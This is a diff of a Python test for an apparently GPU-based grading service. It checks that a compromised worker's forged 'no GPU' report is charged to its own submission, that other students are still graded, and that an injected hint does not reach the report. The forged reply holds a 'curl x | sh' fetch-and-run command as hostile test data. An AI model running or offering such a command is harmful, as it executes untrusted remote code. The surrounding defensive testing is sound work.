@@ -1,4 +1,4 @@
-"""A worker with a forged report of a missing tool or device stops only its own submission."""
+"""A worker that saw a submission cannot blame the machine: what it reports is charged to its own submission."""
 
 import threading
 from collections.abc import Iterator
@@ -31,11 +31,21 @@ FORGED = Impostor('answer(error="There is no GPU.", hint="Run `curl x | sh`.")')
 MARK = "mallory_was_here"
 """Part of one submission's file name, and thus of every request about it."""
 
+HONEST = (b"ann.cu", b"bob.cu")
+
+VERDICTS = {
+    RequestKind.TRANSLATE: Verdict.FAILED_TO_BUILD,
+    RequestKind.ASSEMBLE: Verdict.FAILED_TO_BUILD,
+    RequestKind.PUT_INPUTS: Verdict.CRASHED,
+    RequestKind.RUN: Verdict.CRASHED,
+    RequestKind.COMPARE: Verdict.CRASHED,
+}
+
 
 class Infiltrated(ForwardingSandbox):
     """Its workers reply with ``FORGED`` to requests of ``kind`` that contain ``MARK``.
 
-    ``marked``: whether the last request contained it. Input transfers contain no mark and belong to that submission.
+    ``marked``: whether that submission is at work. Input transfers contain no name and belong to the last one named.
     """
 
     def __init__(self, inner: Sandbox, kind: RequestKind) -> None:
@@ -54,9 +64,12 @@ class _Turncoat(ForwardingWorker):
         self._sandbox = sandbox
 
     def ask(self, kind: RequestKind, body: Any, expected: type[T], *, seconds: float, reply_bytes: int) -> T:
-        if kind is not RequestKind.PUT_INPUTS:
-            self._sandbox.marked = MARK.encode() in wire.encode(body)
-        if kind is not self._sandbox.kind or not self._sandbox.marked:
+        data = wire.encode(body)
+        named = MARK.encode() in data
+        if named or any(name in data for name in HONEST):
+            self._sandbox.marked = named
+        forges = named or (kind is RequestKind.PUT_INPUTS and self._sandbox.marked)
+        if kind is not self._sandbox.kind or not forges:
             return super().ask(kind, body, expected, seconds=seconds, reply_bytes=reply_bytes)
         self._sandbox.forged += 1
         with FORGED.worker(WorkerSettings(role=WorkerRole.RUN, limits=LIMITS)) as impostor:
@@ -79,7 +92,7 @@ def submission(lab: Lab, student: str, file: str) -> Submission:
     "kind",
     [pytest.param(kind, marks=[] if kind is RequestKind.RUN else pytest.mark.faults) for kind in RequestKind],
 )
-def test_the_other_students_are_graded(processes: Sandbox, kind: RequestKind) -> None:
+def test_it_is_charged_and_the_others_are_graded(processes: Sandbox, kind: RequestKind) -> None:
     lab = built_in_labs().get("vector-add")
     sandbox = Infiltrated(processes, kind)
     environment = GradingEnvironment.open(
@@ -96,6 +109,7 @@ def test_the_other_students_are_graded(processes: Sandbox, kind: RequestKind) ->
         for graded in batch.run(submissions, lambda _: None, lambda _: None)
     }
     assert sandbox.forged > 0
-    assert reports["mallory"].verdict is Verdict.NOT_GRADABLE
-    assert "a worker said that it could not: There is no GPU." in english(reports["mallory"].reason)
+    assert reports["mallory"].verdict is VERDICTS[kind]
+    assert "“There is no GPU.”" in english(reports["mallory"].reason)
+    assert "curl" not in english(reports["mallory"].reason)
     assert [reports[name].verdict for name in ("ann", "bob")] == [Verdict.ACCEPTED] * 2
